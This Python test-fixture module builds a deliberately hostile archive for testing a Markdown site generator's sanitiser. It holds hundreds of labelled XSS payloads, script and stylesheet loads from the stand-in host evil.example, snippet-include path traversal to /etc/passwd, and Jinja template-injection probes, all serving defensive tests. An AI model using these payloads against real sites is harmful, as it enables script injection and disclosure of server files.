"""The payload tables, and the hostile archive written from them.

Each payload carries its own marker (``B042``, ``F07``, ``U03``, ``A02``…) in whatever it
would execute or load, so a finding in the built site names the payload that caused it.
Effects vary on purpose, so that different detectors catch different payloads: a dialog
(``alert``), a changed ``document.title``, a request leaving 127.0.0.1, a console error.
"""

from __future__ import annotations

import datetime as dt
import html
import re
from dataclasses import dataclass
from pathlib import Path

import yaml


@dataclass(frozen=True)
class Payload:
    """One hostile input: its marker, its class, and the text itself."""

    id: str
    category: str
    text: str


def _table(category: str, rows: list[tuple[str, str]]) -> list[Payload]:
    return [Payload(pid, category, text) for pid, text in rows]


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnQjAzOScpPC9zY3JpcHQ+"  # <script>alert('B039')</script>
B64_SVG = (
    "PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0"
    "KCdCMDc0Jyk8L3NjcmlwdD48L3N2Zz4="
)

# --- Markdown bodies (article bodies and glossary descriptions) -------------------------
# Every one of these passes `explainer check` (warnings allowed). Payloads that `check`
# rejects (images, mutation-XSS written with <img>) are in REJECTED_BODIES below.
BODY_PAYLOADS: list[Payload] = [
    *_table(
        "script",
        [
            ("B001", "<script>alert('B001')</script>"),
            ("B002", "<SCRIPT SRC=https://evil.example/B002.js></SCRIPT>"),
            ("B003", "<script>document.title='PWNED B003'</script>"),
            ("B004", "<scr<script>ipt>alert('B004')</scr</script>ipt>"),
            ("B005", "<script type=\"text/javascript\">alert('B005')</script>"),
            ("B006", "<script/xss src=\"data:text/javascript,alert('B006')\"></script>"),
            ("B007", "Quote breaker \"><script>alert('B007')</script> in prose."),
            ("B008", "<<script>alert('B008');//<</script>"),
            ("B009", "</p><script>alert('B009')</script><p>"),
            ("B010", "Text <script>alert('B010')</script> more text."),
        ],
    ),
    *_table(
        "event handler",
        [
            ("B011", "<p onclick=\"alert('B011')\">click B011</p>"),
            ("B012", "<div onmouseover=\"alert('B012')\">hover B012</div>"),
            ("B013", '<a href="https://example.org" onfocus="alert(\'B013\')" autofocus>B013</a>'),
            ("B014", "<details open ontoggle=\"alert('B014')\"><summary>B014</summary>d</details>"),
            ("B015", "<body onload=\"alert('B015')\">B015</body>"),
            ("B016", "<input autofocus onfocus=\"alert('B016')\">"),
            ("B017", "<video><source onerror=\"alert('B017')\"></video>"),
            ("B018", "<audio src=x onerror=\"alert('B018')\"></audio>"),
            ("B019", "<marquee onstart=\"alert('B019')\">B019</marquee>"),
            ("B020", "<svg onload=\"alert('B020')\"></svg>"),
            ("B021", "<iframe onload=\"alert('B021')\"></iframe>"),
            ("B022", "<object onerror=\"alert('B022')\"></object>"),
            (
                "B023",
                '<span onpointerenter="alert(\'B023\')" style="display:block;height:900px">'
                "B023</span>",
            ),
            ("B024", "<x onclick=alert('B024')>custom B024</x>"),
            ("B025", "<p/onclick=alert('B025')>slash B025</p>"),
            ("B026", "<p onclick  =  \"alert('B026')\">spaces B026</p>"),
            ("B027", "<p ONCLICK=\"alert('B027')\">upper B027</p>"),
            ("B028", "<button onclick=\"alert('B028')\">B028</button>"),
            ("B029", "<select onfocus=alert('B029') autofocus><option>B029</option></select>"),
            ("B030", "<textarea autofocus onfocus=alert('B030')>B030</textarea>"),
            ("B031", "<keygen autofocus onfocus=alert('B031')>"),
            ("B032", "<form><button formaction=\"javascript:alert('B032')\">B032</button></form>"),
            ("B033", "<isindex type=image src=1 onerror=alert('B033')>"),
            (
                "B034",
                "<table background=\"javascript:alert('B034')\"><tr><td>B034</td></tr></table>",
            ),
            (
                "B035",
                '<table><tr><td style="text-align:center;background:url(https://evil.example/'
                'B035.png)" onclick="alert(\'B035\')">B035</td></tr></table>',
            ),
        ],
    ),
    *_table(
        "script URL",
        [
            ("B036", "[B036](javascript:alert('B036'))"),
            ("B037", "[B037](JaVaScRiPt:alert('B037'))"),
            ("B038", '[B038](vbscript:msgbox("B038"))'),
            ("B039", f"[B039](data:text/html;base64,{B64_SCRIPT})"),
            ("B040", "[B040](&#106;avascript:alert('B040'))"),
            ("B041", "[B041](&#x6A;avascript:alert('B041'))"),
            ("B042", "[B042](&#0000106&#0000097vascript:alert('B042'))"),
            ("B043", "[B043](java&#09;script:alert('B043'))"),
            ("B044", "[B044](java&#x0A;script:alert('B044'))"),
            ("B045", "[B045](java\tscript:alert('B045'))"),
            ("B046", "[B046](<javascript:alert('B046')>)"),
            ("B047", "[B047]( javascript:alert('B047') \"title\")"),
            ("B048", "<javascript:alert('B048')>"),
            ("B049", "<vbscript:msgbox('B049')>"),
            ("B050", "<data:text/html,<script>alert('B050')</script>>"),
            ("B051", "[B051][r51]\n\n[r51]: javascript:alert('B051')"),
            ("B052", "[B052](javascript&colon;alert('B052'))"),
            ("B053", "<a href=\"javascript:alert('B053')\">B053</a>"),
            ("B054", "<a href=\" &#14; javascript:alert('B054')\">B054</a>"),
            ("B055", "<a href=\"java&#13;script:alert('B055')\">B055</a>"),
            (
                "B056",
                '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
                "alert('B056')\">B056</a>",
            ),
            ("B057", "<a href=\"data:text/html,<script>alert('B057')</script>\">B057</a>"),
            ("B058", "<a href=\"java&#0;script:alert('B058')\">B058</a>"),
            ("B059", '<a href="//evil.example/B059">protocol-relative B059</a>'),
            ("B060", '[B060](https://example.org "\\" onmouseover=\\"alert(\'B060\')")'),
            ("B061", '<a href="https://example.org" target="_blank" rel="opener">B061</a>'),
            ("B062", "[B062](javascript://%0aalert('B062'))"),
            ("B063", "<https://example.org/\"onmouseover=\"alert('B063')>"),
            ("B064", "<mailto:x@example.org?body=<script>alert('B064')</script>>"),
            ("B065", "[B065](&#x0001;javascript:alert('B065'))"),
            ("B066", "<a href=\"jav&NewLine;ascript&colon;alert('B066')\">B066</a>"),
            ("B067", "<a xlink:href=\"javascript:alert('B067')\">B067</a>"),
            ("B068", "<a href=\"javascript&#58;alert('B068')\">B068</a>"),
            ("B069", "<a href=\"javascript&#x3a;alert('B069')\">B069</a>"),
            ("B070", "<a href=\"\u3000javascript:alert('B070')\">B070</a>"),
            ("B071", '<a href="https://example.org" ping="https://evil.example/B071">B071</a>'),
            ("B072", "<area href=\"javascript:alert('B072')\">"),
            ("B073", "<time datetime=\"javascript:alert('B073')\">B073</time>"),
        ],
    ),
    *_table(
        "SVG and MathML",
        [
            ("B074", "<svg><script>alert('B074')</script></svg>"),
            (
                "B075",
                '<svg><a xlink:href="javascript:alert(\'B075\')"><text x="0" y="20">B075'
                "</text></a></svg>",
            ),
            ("B076", '<svg><animate onbegin="alert(\'B076\')" attributeName="x" dur="1s"/></svg>'),
            (
                "B077",
                "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert('B077')&lt;/script&gt;\">"
                "</iframe></foreignObject></svg>",
            ),
            ("B078", f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>'),
            ("B079", '<svg><set attributeName="onmouseover" to="alert(\'B079\')"/></svg>'),
            ("B080", "<math href=\"javascript:alert('B080')\">B080</math>"),
            (
                "B081",
                '<math><maction actiontype="statusline" xlink:href="javascript:alert(\'B081\')">'
                "B081</maction></math>",
            ),
            ("B082", "<svg><style>@import 'https://evil.example/B082.css';</style></svg>"),
            ("B083", '<svg><image href="https://evil.example/B083.png"/></svg>'),
        ],
    ),
    *_table(
        "embedding",
        [
            ("B084", '<iframe src="https://evil.example/B084"></iframe>'),
            ("B085", "<iframe srcdoc=\"&lt;script&gt;alert('B085')&lt;/script&gt;\"></iframe>"),
            ("B086", "<iframe src=\"javascript:alert('B086')\"></iframe>"),
            ("B087", "<object data=\"javascript:alert('B087')\"></object>"),
            (
                "B088",
                '<object data="https://evil.example/B088.swf" type="application/x-shockwave-flash">'
                "</object>",
            ),
            ("B089", '<embed src="https://evil.example/B089.svg">'),
            ("B090", "<frameset><frame src=\"javascript:alert('B090')\"></frameset>"),
            ("B091", '<applet code="B091.class" codebase="https://evil.example/"></applet>'),
            ("B092", '<portal src="https://evil.example/B092"></portal>'),
            ("B093", '<video poster="https://evil.example/B093.png"></video>'),
            ("B094", '<input type="image" src="https://evil.example/B094.png">'),
            ("B095", '<picture><source srcset="https://evil.example/B095.png"></picture>'),
            ("B096", '<body background="https://evil.example/B096.png">B096</body>'),
        ],
    ),
    *_table(
        "document-level",
        [
            ("B097", '<base href="https://evil.example/B097/">'),
            ("B098", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'B098\')">'),
            ("B099", '<meta http-equiv="refresh" content="0;url=https://evil.example/B099">'),
            ("B100", '<link rel="stylesheet" href="https://evil.example/B100.css">'),
            ("B101", '<link rel="import" href="https://evil.example/B101.html">'),
            ("B102", "<meta charset=\"UTF-7\">+ADw-script+AD4-alert('B102')+ADw-/script+AD4-"),
            ("B103", '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">'),
            ("B104", '<link rel="prefetch" href="https://evil.example/B104">'),
            ("B105", "<!DOCTYPE html><html><head><script>alert('B105')</script></head></html>"),
            ("B106", '<?xml-stylesheet href="https://evil.example/B106.xsl"?>'),
        ],
    ),
    *_table(
        "form",
        [
            (
                "B107",
                '<form action="https://evil.example/B107"><input name="q" value="x">'
                '<input type="submit"></form>',
            ),
            ("B108", '<form id="__search"><input name="B108"></form>'),
            ("B109", '<button form="x" formaction="https://evil.example/B109">B109</button>'),
            ("B110", '<input type="hidden" name="B110" value="x">'),
        ],
    ),
    *_table(
        "style",
        [
            ("B111", "<style>body { display: none }</style>B111 still visible"),
            ("B112", '<style>@import url("https://evil.example/B112.css");</style>'),
            ("B113", '<p style="background:url(https://evil.example/B113.png)">B113</p>'),
            (
                "B114",
                '<div style="position:fixed;inset:0;z-index:9999;background:red">'
                "B114 overlay</div>",
            ),
            ("B115", '<p style="behavior:url(#default#time2)">B115</p>'),
            ("B116", "<div style=\"width:expression(alert('B116'))\">B116</div>"),
            (
                "B117",
                '<table><tr><th style="text-align:center;background-image:url('
                'https://evil.example/B117.png)">h</th></tr><tr><td style="text-align:left;'
                'position:fixed;top:0">B117</td></tr></table>',
            ),
            ("B118", "<span style=\"font-family:'\\22;}body{display:none}'\">B118</span>"),
            ("B119", "<link rel=stylesheet href=data:,*%7bx:expression(alert('B119'))%7d>"),
        ],
    ),
    *_table(
        "mutation XSS",
        [
            ("B120", "<noscript><p title=\"</noscript><iframe onload=alert('B120')>\"></noscript>"),
            ("B121", "<style><iframe onload=alert('B121')></style>"),
            ("B122", "<textarea></textarea><svg onload=alert('B122')>"),
            ("B123", "<title><iframe onload=alert('B123')></title>"),
            ("B124", "<template><script>alert('B124')</script></template>"),
            ("B125", "<svg><style><iframe onload=alert('B125')></style></svg>"),
            (
                "B126",
                "<math><mi><table><mglyph><style><!--</style><iframe onload=alert('B126')>-->",
            ),
            (
                "B127",
                "<form><math><mtext></form><form><mglyph><style></math>"
                "<iframe onload=alert('B127')>",
            ),
            ("B128", "<xmp><script>alert('B128')</script></xmp>"),
            ("B129", "<noembed><iframe onload=alert('B129')></noembed>"),
            ("B130", "<noframes><iframe onload=alert('B130')></noframes>"),
            ("B131", "<listing>&lt;iframe onload=alert('B131')&gt;</listing>"),
            (
                "B132",
                '<select><template><style><!--</style><a rel="--></style></template></select>'
                "<iframe onload=alert('B132')>\">",
            ),
            ("B133", "<a title=\"<script>alert('B133')</script>\">B133</a>"),
            ("B134", "<p title=\"&quot;&gt;&lt;iframe onload=alert('B134')&gt;\">B134</p>"),
            ("B135", "<svg></p><style><a id=\"</style><iframe onload=alert('B135')>\">"),
            ("B136", "<math><style><iframe onload=alert('B136')></style></math>"),
            ("B137", "<table><td><style></td><iframe onload=alert('B137')>"),
            ("B138", "<!--<iframe onload=alert('B138')>-->"),
            ("B139", "<!--><iframe onload=alert('B139')>-->"),
            ("B140", "<!--!><iframe onload=alert('B140')>-->"),
            ("B141", "<!-- --!><iframe onload=alert('B141')> -->"),
            ("B142", "<![CDATA[<iframe onload=alert('B142')>]]>"),
            ("B143", "<svg><![CDATA[</svg><iframe onload=alert('B143')>]]></svg>"),
            ("B144", "<plaintext><iframe onload=alert('B144')>"),
        ],
    ),
    *_table(
        "attribute list",
        [
            ("B145", "Paragraph B145\n{ onclick=\"alert('B145')\" }"),
            ("B146", "Paragraph B146 { onclick=\"alert('B146')\" }"),
            ("B147", "## Heading B147 { #x onclick=\"alert('B147')\" }"),
            ("B148", "[B148](https://example.org){: onclick=\"alert('B148')\" }"),
            ("B149", '*emphasis B149*{: style="position:fixed;top:0" }'),
            ("B150", "Para B150\n{: .md-button onmouseover=\"alert('B150')\" }"),
            ("B151", "```{ .html onclick=\"alert('B151')\" }\ncode B151\n```"),
        ],
    ),
    *_table(
        "markdown in HTML",
        [
            ("B152", "<div markdown=\"1\">[B152](javascript:alert('B152'))</div>"),
            ("B153", "<div markdown=\"1\">\n\n[B153](javascript:alert('B153'))\n\n</div>"),
            ("B154", "<p markdown=\"block\">[B154](javascript:alert('B154'))</p>"),
            ("B155", "<span markdown=\"span\">[B155](javascript:alert('B155'))</span>"),
        ],
    ),
    *_table(
        "snippet include",
        [
            ("B156", '--8<-- "mkdocs.yml"'),
            ("B157", '--8<-- "/etc/passwd"'),
            ("B158", "--8<--\nmkdocs.yml\n/etc/passwd\n--8<--"),
            ("B159", ';--8<-- "README.md"'),
            ("B160", '--8<-- "../../../../../../etc/passwd"'),
            ("B161", '--8<-- "https://evil.example/B161.md"'),
        ],
    ),
    *_table(
        "template syntax",
        [
            ("B162", "Jinja B162: {{ config }} and {{ config.site_name }}"),
            ("B163", 'Jinja B163: {% include "partials/header.html" %}'),
            ("B164", "Jinja B164: {{ 7*7 }} {{ ''.__class__.__mro__ }}"),
            ("B165", "Jinja B165: {% raw %}raw{% endraw %} {# comment #}"),
            ("B166", "Template literal B166: ${alert('B166')} and #{alert('B166')}"),
        ],
    ),
    *_table(
        "extension syntax",
        [
            ("B167", "!!! note \"<iframe onload=alert('B167')>\"\n    body B167"),
            ("B168", '!!! danger "x\\" onclick=\\"alert(\'B168\')"\n    body B168'),
            ("B169", "!!! <script>alert('B169')</script>\n    body B169"),
            ("B170", "Term B170\n: <iframe onload=alert('B170')> definition"),
            (
                "B171",
                "| a | b |\n|---|---|\n| <iframe onload=alert('B171')> "
                "| [x](javascript:alert('B171')) |",
            ),
            ("B172", "[^B172]\n\n[^B172]: <iframe onload=alert('B172')>"),
            ("B173", "Escaped link B173: \\[x\\](javascript:alert('B173'))"),
            ("B174", "Escaped tags B174: &lt;script&gt;alert('B174')&lt;/script&gt;"),
            (
                "B175",
                "Double-escaped B175: &amp;lt;script&amp;gt;alert('B175')&amp;lt;/script&amp;gt;",
            ),
            ("B176", "Numeric refs B176: &#60;script&#62;alert('B176')&#60;/script&#62;"),
            ("B177", "Backslash B177: \\<script>alert('B177')\\</script>"),
            ("B178", "## __search\n\nHeading whose id would be Material's own (B178)."),
            ("B179", "## md-content B179 &lt;iframe onload=alert('B179')&gt;\n\nText."),
        ],
    ),
    # Block-level HTML that nh3 unwraps, keeping its text: Python-Markdown leaves the
    # inside of a raw HTML block unrendered, and the text becomes top-level in the page.
    *_table(
        "unwrapped block",
        [
            ("B180", "<section>\n[B180](javascript:alert('B180'))\n</section>"),
            ("B181", "<article>\n[B181](javascript:alert('B181'))\n</article>"),
            ("B182", "<aside>\n![B182](https://evil.example/B182.png)\n</aside>"),
            ("B183", "<details><summary>s</summary>\n[B183](javascript:alert('B183'))\n</details>"),
            ("B184", "<nav>\n[r184]: javascript:alert('B184')\n\n[click B184][r184]\n</nav>"),
            ("B185", f"<form>\n[B185](data:text/html;base64,{B64_SCRIPT})\n</form>"),
            ("B186", "<fieldset>\n&lt;iframe onload=alert('B186')&gt;\n</fieldset>"),
            ("B187", "<address>[B187](vbscript:msgbox('B187'))</address>"),
            ("B188", "<header>\n[B188](JaVaScRiPt:alert('B188'))\n</header>"),
            ("B189", "<footer>\n[B189](&#106;avascript:alert('B189'))\n</footer>"),
            ("B190", "<main>\n![B190](https://evil.example/B190.png)\n</main>"),
            ("B191", "<canvas>\n[B191](javascript:alert('B191'))\n</canvas>"),
            ("B192", "<video>\n[B192](javascript:alert('B192'))\n</video>"),
            ("B193", "<center>[B193](javascript:alert('B193'))</center>"),
            ("B194", "<hgroup>\n[B194](javascript:alert('B194'))\n</hgroup>"),
            ("B195", "<section>\n&lt;b&gt;B195 literal tags&lt;/b&gt;\n</section>"),
            (
                "B196",
                '<section>\n!!! danger "B196"\n    admonition from an unwrapped block\n</section>',
            ),
        ],
    ),
    *_table(
        "text and Unicode",
        [
            ("B197", "Right-to-left override B197: \u202egnp.exe and \u2066isolate\u2069"),
            ("B198", "Zero-width B198: java\u200bscript:alert('B198') and \ufeffBOM inside"),
            ("B199", "Fullwidth B199: <a href=\"\uff4aavascript:alert('B199')\">B199</a>"),
            ("B200", "Arabic B200: حماس قالت، وعبرية: ישראל אמרה — and accents: Ça, naïve, Zoë."),
            ("B201", "Line separator B201:\u2028after it\u2029and after that."),
            ("B202", "Long line B202: " + "<a href=javascript:alert('B202')>x</a> " * 40),
            (
                "B203",
                '<div class="md-header md-search admonition danger" data-md-state="lock">'
                "B203</div>",
            ),
            ("B204", '<a href="https://example.org" class="ea-mention md-button">spoof B204</a>'),
            ("B205", '<div id="__config">{"base": "https://evil.example/B205"}</div>'),
            ("B206", '<a name="__config" id="__drawer">B206</a>'),
            # Python-Markdown does not take this <img> for a tag (a quote in an unquoted
            # value): it is escaped and reads as text, so `check` does not count an image.
            ("B207", "<img src=x onerror=alert('B207')>"),
            ("B208", "<svg><style><img src=x onerror=alert('B208')></style></svg>"),
            # Nor does CommonMark, here inside a <style> that nh3 drops with its content.
            ("B209", "<math><mtext><table><mglyph><style><img src=x onerror=alert('B209')>"),
        ],
    ),
]

# Markdown bodies that `check` rejects: the input tests expect these messages, on the line
# of the body where the payload starts plus the offset given.
REJECTED_BODIES: list[tuple[str, str, str, int]] = [
    ("image-javascript", "![x](javascript:alert('R1'))", "javascript: URLs are refused", 0),
    ("image-external", "![x](https://evil.example/R2.png)", "remote images are refused", 0),
    ("image-data", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "data: URLs are refused", 0),
    ("img-onerror", "<img src=x onerror=alert(1)>", "raw <img> tags are removed", 0),
    (
        "mxss-noscript-img",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('R5')>\"></noscript>",
        "raw <img> tags are removed",
        0,
    ),
    (
        "mxss-svg-style-img",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "images",
        0,
    ),
    (
        "mxss-math-img",
        # The value quoted: CommonMark takes an unquoted value holding a quote for text (B209).
        "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('R7')\">",
        "raw <img> tags are removed",
        0,
    ),
    (
        "image-reference",
        "![x][r]\n\n[r]: https://evil.example/R8.png",
        "remote images are refused",
        0,
    ),
    ("brackets-10000", "[" * 10_000, "would take too long to render", 0),
    (
        "nested-list-400",
        "".join("    " * level + "- item\n" for level in range(400)),
        "nested more than",
        30,  # the 31st level: item 30, whose marker opens one level beyond its indent
    ),
    ("nested-quote-400", "> " * 400 + "x", "nested more than", 0),
]

# --- One-line front-matter strings (titles, summaries, bylines, names, roles, tags…) ----
FIELD_PAYLOADS: list[Payload] = _table(
    "field",
    [
        ("F01", "<script>alert('F01')</script>"),
        ("F02", "<img src=x onerror=alert('F02')>"),
        ("F03", "\"><svg onload=alert('F03')>"),
        ("F04", "'><iframe src=javascript:alert('F04')>"),
        ("F05", "</title><script>alert('F05')</script>"),
        ("F06", "</textarea><script>alert('F06')</script>"),
        ("F07", '" onmouseover="alert(\'F07\')" x="'),
        ("F08", "' onfocus='alert(1)' autofocus='F08"),
        ("F09", "&lt;script&gt;alert('F09')&lt;/script&gt;"),
        ("F10", "&#60;img src=x onerror=alert('F10')&#62;"),
        ("F11", "[click F11](javascript:alert('F11'))"),
        ("F12", "<javascript:alert('F12')>"),
        ("F13", "![F13](https://evil.example/F13.png)"),
        ("F14", "{{ config.site_name }} {{ 7*7 }} {% include 'base.html' %} F14"),
        ("F15", "{{ ''.__class__.__mro__[1].__subclasses__() }} F15"),
        ("F16", '--8<-- "mkdocs.yml" F16'),
        ("F17", "*bold* _em_ **strong** `code` # not a heading F17"),
        ("F18", "<!-- F18 comment --> visible F18"),
        ("F19", "<![CDATA[<script>alert('F19')</script>]]>"),
        ("F20", "F20 mixed direction: حماس (Hamas) and ישראל"),  # bidi controls: REJECTED_URLS
        ("F21", "حماس <b>F21</b> ישראל"),
        ("F22", "javascript:alert('F22')"),
        ("F23", "data:text/html;base64,PHNjcmlwdD5hbGVydCgnRjIzJyk8L3NjcmlwdD4="),
        ("F24", "<style>*{display:none}</style>F24"),
        ("F25", '<meta http-equiv="refresh" content="0;url=https://evil.example/F25">'),
        ("F26", '<base href="https://evil.example/F26/">'),
        ("F27", "<link rel=stylesheet href=https://evil.example/F27.css>"),
        ("F28", '<a href="https://evil.example" onclick="alert(\'F28\')">F28</a>'),
        ("F29", "\\\"; alert('F29'); //"),
        ("F30", "</script><script>alert('F30')</script>"),
        ("F31", "--><script>alert('F31')</script><!--"),
        ("F32", "&amp; &lt; &gt; &quot; &#39; F32"),
        ("F33", "%3Cscript%3Ealert('F33')%3C/script%3E"),
        ("F34", "<math><mtext><table><mglyph><style><img src=x onerror=alert('F34')>"),
        ("F35", "<noscript><p title=\"</noscript><img src=x onerror=alert('F35')>\">"),
        ("F36", "| a | b | F36"),
        ("F37", "- F37 list marker"),
        ("F38", "Ça va, naïve café — “quotes” ‘single’ 😀 F38"),
        ("F39", "${alert('F39')} F39"),
        ("F40", "<svg><animate onbegin=alert('F40') attributeName=x dur=1s>"),
        ("F41", "F41 " + "long " * 300),
        ("F42", "trailing backslash F42 \\"),
        ("F43", "F43 { onclick=\"alert('F43')\" }"),
        ("F44", '!!! danger "F44"'),
        ("F45", "[^F45] footnote"),
        ("F46", "<details open ontoggle=alert('F46')>"),
        ("F47", "<a href=&#x6A;avascript:alert('F47')>x</a>"),
        ("F48", ": F48 definition"),
        ("F49", "1. F49 numbered"),
        ("F50", "+ F50 plus"),
        ("F51", "\"'`<>&\\ F51 all the quotes"),
        ("F52", "}}{{ F52 {%- endblock %}"),
    ],
)

# Source URLs that `check` accepts (http or https, a host, no spaces) and that still try
# to break out of the attribute they land in.
URL_PAYLOADS: list[Payload] = _table(
    "url",
    [
        ("U01", "https://example.org/\"><script>alert('U01')</script>"),
        ("U02", "https://example.org/'onmouseover='alert(1)'U02"),
        ("U03", "https://javascript:alert('U03')@example.org/"),
        ("U04", "https://example.org/?q=<img/src=x/onerror=alert('U04')>"),
        ("U05", "http://example.org/#javascript:alert('U05')"),
        ("U06", "https://example.org/%22%3E%3Cscript%3Ealert('U06')%3C/script%3E"),
        ("U07", "https://evil.example/&quot;onclick=&quot;alert('U07')"),
        ("U08", "https://example.org/{{config}}U08"),
        ("U09", "HTTPS://EXAMPLE.ORG/U09"),
        ("U10", "https://example.org/\u05d0\u05d1U10"),
    ],
)

# Source URLs that `check` rejects, with the message expected.
REJECTED_URLS: list[tuple[str, str]] = [
    ("javascript:alert('R1')", "is not an http(s) URL"),
    ("JAVASCRIPT:alert('R2')", "is not an http(s) URL"),
    ("vbscript:msgbox('R3')", "is not an http(s) URL"),
    ("data:text/html,<script>alert('R4')</script>", "is not an http(s) URL"),
    ("//evil.example/R5", "is not an http(s) URL"),
    ("https:///R6", "is not an http(s) URL"),
    ("https://example.org/ R7", "is not an http(s) URL"),
    ("file:///etc/passwd", "is not an http(s) URL"),
    ("ftp://example.org/R9", "is not an http(s) URL"),
    ("mailto:x@example.org", "is not an http(s) URL"),
    ("java\tscript:alert('R11')", "is not an http(s) URL"),
    ("&#106;avascript:alert('R12')", "is not an http(s) URL"),
    # Invisible format characters are refused in every one-line field, URLs included.
    ("https://example.org/\u202eR13", "invisible character U+202E"),
    ("https://example.org/R14\u200b", "invisible character U+200B"),
]


# --- The archive -------------------------------------------------------------------------
@dataclass(frozen=True)
class EntitySpec:
    """A glossary entry of the hostile archive."""

    id: str
    section: str
    kind: str
    name: str
    aliases: tuple[str, ...]
    extra: tuple[tuple[str, object], ...] = ()


# Aliases that `check` accepts and that still carry markup: they must reach the text of
# the articles (escaped there) to be matched, linked and quoted.
ENTITIES: list[EntitySpec] = [
    EntitySpec("zorblax-nine", "actors", "person", "", ("Zorblax Nine", "Zorblax")),
    EntitySpec(
        "quendra-vale", "actors", "person", "", ("Quendra Vale", "X<script>alert('A02')</script>X")
    ),
    EntitySpec(
        "ostrava-front",
        "actors",
        "armed-group",
        "",
        ("Ostrava Front", "O\"><svg onload=alert('A03')>O"),
    ),
    EntitySpec("cpp-league", "actors", "organisation", "", ("C++ 20 League", "A.B", "x|y", "AT&T")),
    EntitySpec("qeshet-guild", "actors", "media", "", ("Qeshet{{ config }}Guild", "Q{% raw %}Q")),
    EntitySpec(
        "vestoria",
        "locations",
        "country",
        "<iframe onload=alert('L06')>Vestoria",
        ("Vestoria",),
        (("coordinates", {"lat": 12.5, "lon": -45.25}), ("wikidata", "Q4242")),
    ),
    EntitySpec("port-kell", "locations", "city", "&amp; Port Kell", ("Port Kell",)),
    EntitySpec("star-isle", "locations", "site", "*Star* Isle", ("Star Isle",)),
    EntitySpec("hash-bay", "locations", "region", "# Hash Bay", ("Hash Bay",)),
    EntitySpec(
        "bracket-reef",
        "locations",
        "site",
        "[Bracket](javascript:alert('L10')) Reef",
        ("Bracket Reef",),
    ),
    EntitySpec("tick-town", "locations", "city", "`Tick` Town", ("Tick Town",)),
    EntitySpec("brace-fjord", "locations", "territory", "{{ config }} Fjord", ("Brace Fjord",)),
    EntitySpec("dash-down", "locations", "region", "- Dash Down", ("Dash Down",)),
    EntitySpec("quote-cape", "locations", "site", "> Quote Cape", ("Quote Cape",)),
    EntitySpec("arabic-city", "locations", "city", "مدينة النور", ("مدينة النور",)),
]

BENIGN_SLUG = "about-script-tags"
BENIGN_TITLE = 'Why <script> tags & "quotes" read as text'
BENIGN_SUMMARY = "Writing &lt;b&gt; in a summary shows &lt;b&gt;, and <i>this</i> stays literal."
BENIGN_INLINE_CODE = '<script>alert("inline")</script>'
BENIGN_PROSE = "In prose, the tag <script> must read as text, and so must 2 < 3 && 4 > 1."
BENIGN_CODE_BLOCK = '<script>alert("block")</script>\n<p onclick="alert(\'x\')">hi</p>'
BENIGN_BODY = (
    f"Editors sometimes paste `{BENIGN_INLINE_CODE}` into an article about Zorblax Nine.\n\n"
    "In prose, the tag &lt;script&gt; must read as text, and so must 2 < 3 && 4 > 1.\n\n"
    f"```html\n{BENIGN_CODE_BLOCK}\n```\n"
)

# Text that must never reach the site: what snippet includes of these files would show.
SECRETS = ("root:x:0:0", "site_name: Explainer Archive", "markdown_extensions:", "nox -s build")

ARTICLE_COUNT = 24
BODY_PAYLOADS_PER_DESCRIPTION = 3
FIRST_DATE = dt.date(2024, 1, 3)
SITE_NAME = "Explainer Archive"
_MARKDOWN_LITERAL = re.compile(r"([\\`*_{}\[\]()#+\-.!])")


def literal(text: str) -> str:
    """Markdown that renders to exactly ``text`` as prose (no markup, no entities)."""
    return _MARKDOWN_LITERAL.sub(r"\\\1", html.escape(text, quote=False))


def folded(text: str) -> str:
    """How a one-line field reads on the page: whitespace folded (values.py does this)."""
    return " ".join(text.split())


class _Writer:
    """Writes the archive; ``clean`` swaps every payload for plain words of the same role."""

    def __init__(self, clean: bool) -> None:
        self.clean = clean

    def field(self, index: int) -> str:
        payload = FIELD_PAYLOADS[index % len(FIELD_PAYLOADS)]
        return f"Plain field {payload.id}" if self.clean else payload.text

    def pair(self, index: int) -> str:
        return f"{self.field(index)} / {self.field(index + 1)}"

    def url(self, index: int) -> str:
        payload = URL_PAYLOADS[index % len(URL_PAYLOADS)]
        return f"https://example.org/{payload.id}" if self.clean else payload.text

    def body(self, payload: Payload) -> str:
        return f"Plain body text {payload.id}." if self.clean else payload.text

    def aliases(self, spec: EntitySpec) -> tuple[str, ...]:
        return (spec.id.replace("-", " ").title(),) if self.clean else spec.aliases

    def name(self, spec: EntitySpec, index: int) -> str:
        if self.clean:
            return self.aliases(spec)[0]
        return spec.name or f"{self.field(index * 3)} {spec.aliases[0]}"

    def mention(self, spec: EntitySpec, article: int) -> str:
        """The alias an article uses for an entity (cycling through hostile aliases)."""
        aliases = self.aliases(spec)
        return literal(aliases[article % len(aliases)])


def _dump(meta: dict[str, object], body: str) -> str:
    text = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=1_000_000)
    return f"---\n{text}---\n{body}"


@dataclass(frozen=True)
class Archive:
    """What the written archive holds, for the tests' expectations."""

    titles: dict[str, str]  # page URL below the site root -> expected document title
    bodies: dict[str, list[str]]  # page URL -> ids of the body payloads on that page
    benign_url: str

    def page_of(self, payload_id: str) -> str:
        """The URL of the page whose body carries ``payload_id``."""
        return next(url for url, ids in self.bodies.items() if payload_id in ids)


def _article_body(w: _Writer, k: int, chunk: list[Payload]) -> str:
    first = ENTITIES[k % len(ENTITIES)]
    second = ENTITIES[(k + 5) % len(ENTITIES)]
    frame = "plain" if w.clean else f"<iframe onload=alert('S{k}')>"
    sentence = (
        f"{w.mention(first, k)} said {literal(w.field(k + 20))} on the record. "
        f"Later {w.mention(second, k)} answered {literal(w.field(k + 30))} in "
        f"{literal(frame)} terms."
    )
    parts = [sentence]
    for payload in chunk:
        parts.append(f"Payload {payload.id} ({payload.category}) follows.")
        parts.append(w.body(payload))
    parts.append(f"{w.mention(first, k + 1)} closed the list for item {k}.")
    return "\n\n".join(parts) + "\n"


